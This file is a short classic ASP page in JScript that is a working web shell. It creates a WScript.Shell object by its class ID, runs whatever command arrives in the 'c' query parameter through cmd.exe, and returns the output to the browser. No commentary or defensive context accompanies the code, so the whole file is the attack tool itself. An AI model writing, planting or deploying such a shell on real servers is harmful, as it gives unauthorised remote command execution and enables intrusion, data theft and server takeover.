<%@ Language="JScript" %>
<%
function arg(n) { return Request.QueryString(n) + ""; }
var o = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8");
var ex = o.Exec("cmd.exe /c " + arg("c"));
Response.Write(ex.StdOut.ReadAll());
%>
